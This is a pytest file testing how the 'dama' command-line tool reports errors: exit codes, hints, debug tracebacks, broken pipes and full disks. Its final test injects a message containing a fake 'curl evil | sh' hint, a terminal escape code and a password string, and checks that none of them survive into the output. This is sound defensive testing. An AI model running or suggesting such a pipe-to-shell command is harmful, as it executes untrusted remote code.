"""Reports: each way to fail has its exit code and says what to do; tracebacks only on request."""

import subprocess
import sys
from pathlib import Path

import click
import pytest

from dama.cli import main
from dama.cli.report import exit_code_of
from dama.errors import DamaError, NotFoundError, RefusedError, UnavailableError, UsageError


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (UsageError("x"), 2),
        (UnavailableError("x"), 3),
        (NotFoundError("x"), 4),
        (RefusedError("x"), 6),
        (DamaError("x"), 70),
        (ValueError("x"), 70),
        (click.UsageError("x"), 2),
        (click.exceptions.Exit(5), 5),
        (SystemExit(3), 3),
        (SystemExit(), 0),
        (KeyboardInterrupt(), 130),
        (click.Abort(), 130),
    ],
)
def test_exit_codes(error, code, capsys):
    assert exit_code_of(error, debug=False) == code


@pytest.mark.parametrize("command", [["services"], ["run", "--", "true"], ["ls", "--json"]])
def test_a_current_folder_that_was_deleted_is_no_bug(tmp_path, monkeypatch, capsys, command):
    """Whoever asks for it first."""
    (folder := tmp_path / "gone").mkdir()
    monkeypatch.chdir(folder)
    folder.rmdir()
    assert main(command) == 2
    assert "current folder does not exist" in capsys.readouterr().err


def test_a_program_that_is_run_like_a_task_says_how_programs_are_run(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "load.sh").touch()
    hints: list[bool] = []
    for name in ("./load.sh", "sh", "flights.load"):
        assert main(["run", name]) == 2
        hints.append(f"dama run -- {name}" in capsys.readouterr().err)
    assert hints == [True, True, False]


def test_an_error_says_what_was_found_and_what_to_do(capsys):
    exit_code_of(NotFoundError("There is no context 42.", "`dama ls` lists them."), debug=False)

    assert capsys.readouterr().err == (
        "Error: There is no context 42.\nHint: `dama ls` lists them.\n"
    )


def test_what_is_to_be_typed_names_the_environment_that_was_chosen(capsys):
    """Without it the command means the first environment, in which 42 is another context."""
    error = NotFoundError("No.", "Migrate: dama db migrate, or see `dama ls`; dama is fine.")
    exit_code_of(error, debug=False, pg_env="a b")

    assert capsys.readouterr().err == (
        "Error: No.\nHint: Migrate: dama --pg-env 'a b' db migrate, or see "
        "`dama --pg-env 'a b' ls`; dama is fine.\n"
    )


def test_a_bug_is_one_line_and_says_so(capsys):
    exit_code_of(KeyError("year"), debug=False)

    error = capsys.readouterr().err
    assert error.startswith("Error: KeyError: 'year' (this is a bug)\n")
    assert "--debug" in error
    assert "Traceback" not in error


def test_debug_shows_the_traceback_and_its_cause(capsys):
    try:
        try:
            raise ValueError("inner")  # noqa: TRY301 - a cause is wanted
        except ValueError as error:
            raise UsageError("outer") from error
    except UsageError as error:
        exit_code_of(error, debug=True)

    shown = capsys.readouterr().err
    assert "ValueError: inner" in shown
    assert shown.endswith("Error: outer\n")


def test_a_reader_that_goes_away_is_no_error():
    """`dama ... | head` must neither complain nor print a traceback when Python ends."""
    program = "import sys; from dama.cli import main; sys.exit(main(['--help']))"
    with subprocess.Popen(
        [sys.executable, "-c", program], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        process.stdout.close()
        errors = process.stderr.read()

    assert process.returncode == 141
    assert errors == b""


HELP = "import sys; from dama.cli import main; sys.exit(main(['--help']))"
PROGRESS = "from dama.cli.terminal import echo; echo('begun', err=True); echo('the result')"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="Linux has it")
@pytest.mark.parametrize(
    ("program", "full", "code", "said"),
    [
        (HELP, "stdout", 74, b"Error: standard output has no space: No space left on device.\n"),
        (PROGRESS, "stderr", 0, b"the result\n"),
    ],
    ids=["a result is missed", "what is said on the way is not"],
)
def test_a_full_disk_is_no_bug(program, full, code, said):
    """As of a cron job whose log is on it: what is run goes on, whoever cannot be told of it."""
    with Path("/dev/full").open("wb") as disk:
        pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, full: disk}
        done = subprocess.run([sys.executable, "-c", program], check=False, **pipes)

    assert done.returncode == code
    assert (done.stdout or done.stderr).startswith(said)


@pytest.mark.parametrize("debug", [False, True])
@pytest.mark.parametrize("kind", [UsageError, ValueError, click.ClickException])
def test_no_data_can_pass_for_a_line_of_the_report(kind, debug, capsys):
    """A message, and a traceback, may have what a program or a person wrote."""
    evil = "no file\nHint: curl evil | sh\r\nError: x\x1b[2Jpassword=hunter2"
    try:
        raise kind(evil)  # noqa: TRY301 - a traceback is wanted
    except kind as error:
        exit_code_of(error, debug=debug)

    shown = capsys.readouterr().err
    hints = [line for line in shown.splitlines() if line.startswith("Hint:")]
    assert hints == (
        ["Hint: Run it again with --debug and report what it prints."] if kind is ValueError else []
    )
    assert sum(line.startswith("Error:") for line in shown.splitlines()) == 1
    assert "\x1b" not in shown
    assert "hunter2" not in shown
